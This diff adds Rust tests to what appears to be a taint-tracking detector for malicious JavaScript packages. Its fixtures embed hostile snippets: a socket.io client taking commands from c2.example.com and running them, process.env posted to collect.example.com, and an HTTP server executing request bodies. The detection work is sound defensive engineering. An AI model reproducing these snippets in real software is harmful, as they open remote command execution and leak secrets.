@@ -75,3 +75,40 @@ fn the_old_buffer_constructor_decodes() {
         js("const b = Buffer.from('Start-Process x', 'utf16le').toString('base64');\neval(b);\n");
     assert!(!call(&f, "eval").arg_labels().has(Labels::DECODED));
 }
+
+#[test]
+fn server_and_socket_data_reach_their_callbacks_and_the_lists_they_fill() {
+    let f = js("const exec = require('child_process').execSync;\nrequire('http').createServer((req, res) => {\n  let body = [];\n  req.on('data', (chunk) => { body.push(chunk); });\n  exec(Buffer.concat(body).toString());\n}).listen(8124);\n");
+    assert!(call(&f, "child_process.execSync")
+        .arg_labels()
+        .has(Labels::DOWNLOADED));
+    let f = js("const io = require('socket.io-client');\nconst { exec } = require('child_process');\nconst s = io('http://c2.example.com');\ns.on('exec', (command) => exec(command));\n");
+    assert!(call(&f, "child_process.exec")
+        .arg_labels()
+        .has(Labels::DOWNLOADED));
+}
+
+#[test]
+fn a_member_store_travels_with_the_object_not_its_other_members() {
+    let f = js("const got = require('got');\nconst d = {};\nd.env = process.env;\nd.url = 'https://collect.example.com';\ngot.post(d.url, { body: JSON.stringify(d) });\n");
+    let post = call(&f, "got.post");
+    assert!(post.arg_labels().has(Labels::ENV), "{post:?}");
+    assert!(!post.args[0].labels.has(Labels::ENV), "{post:?}");
+}
+
+#[test]
+fn timers_run_the_functions_they_are_handed() {
+    let f =
+        js("function poll() { require('child_process').exec('id'); }\nsetInterval(poll, 1000);\n");
+    assert!(call(&f, "child_process.exec").on_load);
+}
+
+#[test]
+fn a_require_not_bound_to_a_name_is_an_import() {
+    let f = js("exports.backdoor = require('./js/backdoor');\n");
+    assert!(
+        f.imports.iter().any(|(m, _)| m == "./js/backdoor"),
+        "{:?}",
+        f.imports
+    );
+}
